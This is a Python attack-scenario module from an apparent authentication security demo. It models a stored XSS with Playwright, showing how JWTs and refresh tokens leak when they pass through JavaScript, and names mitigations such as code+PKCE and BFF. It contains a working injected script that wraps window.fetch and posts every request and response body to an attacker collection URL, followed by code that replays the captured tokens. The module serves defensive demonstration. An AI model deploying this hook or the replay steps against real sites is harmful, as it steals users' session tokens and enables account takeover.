"""Injected script wraps `fetch` and catches the JWT in flight (during the cookie drop).

Threat: a stored XSS, modelled with Playwright's `add_init_script` so that it runs in every page
of the victim's browser before the app's own scripts (as a persistent injection would). It wraps
`window.fetch`, reads every request body and response, and sends anything token-like to the
attacker's origin. HttpOnly cookies do not help if the JWT passes through JavaScript on its way
into the cookie: the cookie drop (`POST /api/cookie-drop {"token": ...}`) and, in native mode,
the `/api/login` response body, which also carries the refresh token.
Stolen: the JWT (implicit-cookie); the JWT and the refresh token (native-refresh-cookie).
What stops it: flows where JavaScript never touches a token (code+PKCE with HttpOnly cookies
set by the backend, BFF).
Does not apply to implicit-localstorage: there is no cookie drop (scenario 2 reads the JWT at rest).
"""
from __future__ import annotations

import json

from authgate_demo.attacks.matrix import Cell, blocked, succeeded
from authgate_demo.attacks.scenarios import MITIGATION_NO_JS_TOKEN, describe, jwts_in, short

ID = "03-xss-hook-fetch"
TITLE = "Injected script hooks fetch and captures the JWT during the cookie drop"

HOOK = """(function(){
if (!location.host.startsWith(APP_HOST)) return;
var orig = window.fetch, sink = SINK;
window.fetch = async function(input, init){
  var url = String((input && input.url) || input), body = init && init.body ? String(init.body) : '';
  var resp = await orig.apply(this, arguments), text = '';
  try { text = await resp.clone().text(); } catch (e) {}
  orig(sink, {method: 'POST', mode: 'no-cors', body: JSON.stringify({url: url, request: body, response: text.slice(0, 6000)})});
  return resp;
};})();"""


def applies(mode: str) -> str | None:
    if mode == "implicit-localstorage":
        return "no cookie drop: the JWT is kept in localStorage, where scenario 2 reads it at rest"
    return None


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    tag = f"{ID}-{ctx.mode}"
    hook = HOOK.replace("APP_HOST", json.dumps("store.")).replace("SINK", json.dumps(ctx.sink.collect_url(tag)))
    await ctx.victim(init_script=hook)
    await ctx.sink.wait_for(tag, timeout=3)
    seen = ctx.sink.received(tag)
    urls = sorted({h["url"].split("?")[0].replace(ctx.url("idp"), "idp").replace(ctx.url("store"), "") for h in seen})
    evidence = [f"the hook saw {len(seen)} fetch calls: {urls}"]
    jwts: list[str] = []
    refresh: list[str] = []
    for h in seen:
        for part in (h["request"], h["response"]):
            jwts += jwts_in(part)
            try:
                body = json.loads(part)
            except ValueError:
                continue
            if isinstance(body, dict) and isinstance(body.get("refreshToken"), str):
                refresh.append(body["refreshToken"])
    if not jwts and not refresh:
        return blocked(MITIGATION_NO_JS_TOKEN[ctx.mode], evidence + ["no token in any request or response"])
    stolen = []
    ok = False
    if jwts:
        r = await ctx.attack("GET", "store", "/api/load-shopping-cart", headers={"Authorization": f"Bearer {jwts[-1]}"})
        evidence.append(f"captured JWT {short(jwts[-1])} replayed: {describe(r)}")
        ok |= r.status_code == 200
        stolen.append("the JWT")
    if refresh:
        r = await ctx.attack("POST", "idp", "/api/jwt/refresh", json={"refreshToken": refresh[-1]})
        evidence.append(f"captured refresh token {short(refresh[-1])} sent to the IdP: {describe(r)}")
        ok |= r.status_code == 200
        stolen.append("the refresh token (from the /api/login response body)")
    if not ok:
        return blocked("the captured tokens were refused", evidence, stolen=" and ".join(stolen))
    where = "cookie-drop request body" if ctx.mode == "implicit-cookie" else "/api/login response and cookie-drop body"
    return succeeded(stolen=" and ".join(stolen) + f" ({where})",
                     usable_for="JWT until exp; refresh token until it expires or its family is revoked (scenario 5)"
                     if refresh else "until exp",
                     mitigation="none in this mode: the token passes through JavaScript; code+PKCE / BFF never hand it to the page",
                     evidence=evidence)
